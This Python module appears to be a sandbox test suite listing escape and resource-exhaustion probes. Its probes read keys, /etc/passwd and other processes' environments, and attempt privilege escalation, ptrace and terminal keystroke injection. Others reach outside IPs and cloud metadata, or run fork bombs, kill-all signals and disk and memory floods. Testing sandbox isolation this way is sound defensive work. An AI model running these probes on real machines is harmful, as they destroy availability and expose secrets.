"""Attacks on the sandbox: each is a function's body that returns something true when it has succeeded.

`W` is what the test has planted (`probe_targets.py`); `call` makes a raw kernel call by name. Those that end
without an answer say how they end instead. `control` says where the same attack must succeed without a
sandbox: "user" everywhere, "root" for root, else the reason why it cannot be tried.
The attacks on the kernel are in `probes_kernel.py`.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from probes_kernel import KERNEL

_BEFORE = """
import ctypes, errno, json, mmap, os, signal, socket, stat, struct, sys, threading, time
W = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def call(name, *arguments):
    number = W["numbers"].get(name)
    if number is None:
        raise OSError(errno.ENOSYS, name)
    words = [ctypes.c_ulong(a % 2**64) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result

def can(action, *arguments):
    try:
        action(*arguments)
    except OSError:
        return False
    return True

def child(action):
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if action() else 1)
        except BaseException:
            os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0

def attack():
"""
_AFTER = """
try:
    got, fault, number = attack(), "", 0
except BaseException as error:
    got, fault, number = None, type(error).__name__, getattr(error, "errno", None)
os.write(1, json.dumps({"achieved": bool(got), "got": str(got)[:300], "fault": fault, "errno": number}).encode())
os._exit(0)
"""
HARMFUL = "would harm the machine that runs the tests"


@dataclass(frozen=True)
class Attack:
    """One attack: its group, its body, how it ends in the sandbox and where it can be shown to be real."""

    group: str
    body: str
    control: str = "user"
    ends: str = "answers"

    @property
    def program(self) -> str:
        """The whole program, which reads the world from its input."""
        return _BEFORE + textwrap.indent(self.body.strip("\n"), "    ") + "\n" + _AFTER


FILES = {
    "key in home": "return open(W['home_key']).read()",
    "key in run folder": "return open(W['key']).read()",
    "list run folder": "return os.listdir(W['folder'])",
    "write run folder": "return open(W['canary'], 'a').write('x')",
    "delete in run folder": "return os.remove(W['victim_file']) is None",
    "create in run folder": "return open(W['folder'] + '/new', 'w').write('x')",
    "passwd": "return open('/etc/passwd').read()",
    "environment of others": "return [open(f'/proc/{p}/environ').read() for p in (W['victim'], 'self')]",
    "own environment": "return dict(os.environ)",
    "parent path": "return open('/../' * 8 + W['key']).read() or open('../' * 20 + W['key']).read()",
    "symlink out": "os.symlink(W['key'], 'link')\nreturn open('link').read()",
    "hard link out": "os.link(W['key'], 'hard')\nreturn open('hard').read()",
    "symlink race": """
open('mine', 'w').write('mine')
swaps = []
def swap():
    while True:
        for target in ('mine', W['key']):
            os.symlink(target, 'new'); os.replace('new', 'race')
            swaps.append(target)
            time.sleep(0.001 * (len(swaps) % 4))  # without a pause a busy machine may never read between two swaps
swapper = threading.Thread(target=swap, daemon=True)
swapper.start()
end = time.monotonic() + 0.4
while swapper.is_alive() and (time.monotonic() < end or len(swaps) < 100):
    try:
        text = open('race').read()
    except OSError:
        continue
    if text != 'mine':
        return text
""",
    "walk the tree": """
name = os.path.basename(W['folder'])
return any(name in folders for _, folders, _ in os.walk(os.path.dirname(W['folder'])))
""",
    "inherited descriptors": "return [fd for fd in range(3, 1024) if can(os.fstat, fd)]",
    "temporary folder": "return os.path.exists('/tmp') or os.path.exists('/var/tmp')",
    "packages": """
return [path for path in sys.path + W['packages'] if 'packages' in path and can(os.listdir, path) and os.listdir(path)]
""",
}
FILES_OF_ROOT = {
    "memory device": "return [d for d in ('/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda') if can(open, d, 'rb')]",
    "make a device": "os.mknod('device', stat.S_IFCHR | 0o666, os.makedev(1, 5))\nreturn open('device', 'rb').read(1)",
    "write the standard library": "return open(os.__file__, 'ab').writable()",
    "write a library": "return open(W['library'], 'ab').writable()",
    "write read-only folders": """
places = ['/', '/usr', '/usr/lib', '/dev', os.path.dirname(os.__file__), os.path.dirname(sys.executable)]
return [p for p in places if can(os.open, p, os.O_TMPFILE | os.O_RDWR)]
""",
    "change a device's mode": "return os.chmod('/dev/null', os.stat('/dev/null').st_mode & 0o7777) is None",
}
PRIVILEGES = {
    "become root": "os.setresuid(0, 0, 0)\nos.setresgid(0, 0, 0)\nreturn os.getuid() == 0",
    "become another user": "os.setresuid(50001, 50001, 50001)\nreturn True",
    "capabilities": """
data = (ctypes.c_uint32 * 6)()
call('capget', ctypes.byref((ctypes.c_uint32 * 2)(0x20080522, 0)), data)
return any((*data[:2], *data[3:5]))  # effective and permitted
""",
    "raise limits": """
import resource
for name in ('AS', 'CPU', 'FSIZE', 'NOFILE', 'NPROC', 'SIGPENDING', 'MSGQUEUE'):
    limit = getattr(resource, 'RLIMIT_' + name)
    hard = resource.getrlimit(limit)[1]
    try:
        if hard != resource.RLIM_INFINITY:
            resource.setrlimit(limit, (hard + 1, hard + 1))
        return name
    except (OSError, ValueError):
        pass
""",
    "priority": "os.setpriority(os.PRIO_PROCESS, 0, -20)\nreturn True",
    "lock memory": "return libc.mlockall(1) == 0",
}
ESCALATION = {
    "setuid programs": """
for folder, _, names in os.walk('/usr/bin' if os.path.isdir('/usr/bin') else '/'):
    for name in names:
        path = os.path.join(folder, name)
        mode = os.lstat(path).st_mode
        if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID) and not os.statvfs(path).f_flag & os.ST_NOSUID:
            return name
""",
    "new privileges": "return libc.prctl(39, 0, 0, 0, 0) == 0",
    "programs on the path": "return [d for d in os.defpath.split(':') if os.path.isdir(d)]",
}
NETWORK = {
    "tcp": "socket.create_connection(('127.0.0.1', W['tcp']), 2).send(b'x')\nreturn True",
    "tcp 6": "socket.create_connection(('::1', W['tcp6']), 2).send(b'x')\nreturn True",
    "udp": """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(('127.0.0.1', W['udp']))
    s.settimeout(2)
    s.send(b'ping')
    return s.recv(10)
""",
    "name server": """
query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(2)
    s.sendto(query, ('127.0.0.1', W['udp']))
    return s.recvfrom(512)[0]
""",
    "resolver": "return socket.getaddrinfo('localhost', 80)[0][4][0] and open('/etc/resolv.conf').read(1)",
    "local socket": "with socket.socket(socket.AF_UNIX) as s:\n    s.connect(W['unix'])\n    return s.send(b'x')",
    "abstract socket": """
with socket.socket(socket.AF_UNIX) as s:
    s.connect('\\0' + W['abstract'])
    return s.send(b'x')
""",
    "interfaces": "return [name for _, name in socket.if_nameindex() if name != 'lo']",
    "netlink": "return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).fileno() + 1",
}
NETWORK_OF_ROOT = {
    "raw socket": "return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno()",
    "packet socket": "return socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno()",
}
NETWORK_ALONE = {
    "tcp outside": """
return [host for host in ('1.1.1.1', '8.8.8.8', '192.0.2.1') if can(socket.create_connection, (host, 443), 1)]
""",
    "cloud metadata": "return can(socket.create_connection, ('169.254.169.254', 80), 1)",
    "vm socket": "return socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)) is None",
    "services": """
names = ['/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0']
return [n for n in names if can(socket.socket(socket.AF_UNIX).connect, n)]
""",
}
PROCESSES = {
    "kill a process": "os.kill(W['victim'], 9)\nreturn True",
    "kill a group": "os.killpg(W['victim'], 9)\nreturn True",
    "list processes": "return [p for p in os.listdir('/proc') if p.isdigit()]",
    "trace a process": "return call('ptrace', 0x4206, W['victim'], 0, 0) == 0",
    "leave a daemon": """
if os.fork() == 0:
    can(os.setsid)
    if os.fork() == 0:
        time.sleep(0.1)
        if not can(lambda: open(W['folder'] + '/late', 'x').close()):
            time.sleep(60)
    os._exit(0)
time.sleep(0.4)
return os.path.exists(W['folder'] + '/late')
""",
}
ENDLESS = {
    ("processes", "fork bomb", "timeout"): "while True:\n    try: os.fork()\n    except OSError: pass",
    ("processes", "thread bomb", "timeout"): """
while True:
    try: threading.Thread(target=time.sleep, args=(60,)).start()
    except (RuntimeError, MemoryError): pass
""",
    ("processes", "detached fork bomb", "timeout"): """
while True:
    try:
        if os.fork() == 0: os.setsid()
    except OSError: pass
""",
    ("memory", "memory times processes", "signal"): """
for _ in range(24):
    if os.fork() == 0:
        held = bytearray(b'x') * (300 << 20)
        time.sleep(60)
time.sleep(60)
""",
    ("files", "many files", "signal"): "for i in range(10**7): os.close(os.open(str(i), os.O_CREAT | os.O_WRONLY))",
    ("files", "many folders", "signal"): "while True:\n    os.mkdir('d')\n    os.chdir('d')",
    ("time", "busy loop", "timeout"): "while True: pass",
    ("time", "sleep", "timeout"): "time.sleep(600)",
    ("time", "one long operation", "timeout"): "return 9 ** 9 ** 9",
    ("time", "stops itself", "timeout"): "os.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(600)",
    ("signals", "ignores all signals", "timeout"): """
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
while True: pass
""",
    ("signals", "answers signals by forking", "timeout"): """
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
    signal.signal(number, lambda *_: os.fork())
while True: time.sleep(1)
""",
    ("output", "flood stdout", "output_limit"): "while True: os.write(1, b'x' * 10_000)",
    ("output", "flood stderr", "output_limit"): "while True: os.write(2, b'x' * 10_000)",
    ("output", "flood both", "output_limit"): """
os.fork()
while True:
    os.write(1, b'x' * 999)
    os.write(2, b'y' * 999)
""",
    ("output", "drip without end", "timeout"): "while True:\n    os.write(1, b'x')\n    time.sleep(0.01)",
}
MEMORY = {
    "allocation": "return len(bytearray(1 << 30))",
    "mapping": "return len(mmap.mmap(-1, 2 << 30))",
    "shared mapping of a device": "return len(mmap.mmap(os.open('/dev/zero', os.O_RDWR), 2 << 30))",
    "huge file": "with open('huge', 'wb') as f:\n    return sum(f.write(bytes(1 << 20)) for _ in range(32)) >> 25",
    "sparse file": "os.truncate(os.open('sparse', os.O_CREAT | os.O_RDWR), 1 << 36)\nreturn os.stat('sparse').st_size",
    "full disk": """
for i in range(32):
    with open(f'part{i}', 'wb') as f:
        f.write(bytes(1 << 20))
return True
""",
    "file without a name": """
fd = os.memfd_create('x')
return sum(os.write(fd, bytes(1 << 20)) for _ in range(32)) >> 25
""",
    "descriptors": "return len([os.open('/dev/null', os.O_RDONLY) for _ in range(200)])",
    "pipes": "return len([os.pipe() for _ in range(100)])",
}
TERMINAL = {
    "type for the user": """
import fcntl, termios
def typed():
    can(os.setsid)
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    return fcntl.ioctl(slave, termios.TIOCSTI, b'x') is not None
return child(typed) or [fd for fd in range(3) if can(fcntl.ioctl, fd, termios.TIOCSTI, b'x')]
""",
    "open a terminal": "return os.openpty()",
}


def _of(group: str, bodies: dict[str, str], control: str = "user") -> dict[str, Attack]:
    return {name: Attack(group, body, control) for name, body in bodies.items()}


ATTACKS: dict[str, Attack] = {
    **_of("files", FILES),
    **_of("files", FILES_OF_ROOT, "root"),
    **_of("privileges", PRIVILEGES, "root"),
    **_of("privileges", ESCALATION),
    **_of("network", NETWORK),
    **_of("network", NETWORK_OF_ROOT, "root"),
    **_of("network", NETWORK_ALONE, "the machine that runs the tests may have none"),
    **_of("processes", PROCESSES),
    "kill everything": Attack("processes", "can(os.kill, -1, 9)\nos.killpg(0, 9)", HARMFUL, "signal"),
    **{name: Attack(group, body, HARMFUL, ends) for (group, name, ends), body in ENDLESS.items()},
    **_of("memory", MEMORY),
    **_of("terminal", TERMINAL, "root"),
    **{name: Attack("kernel", body, control, ends) for name, (body, control, ends) in KERNEL.items()},
}
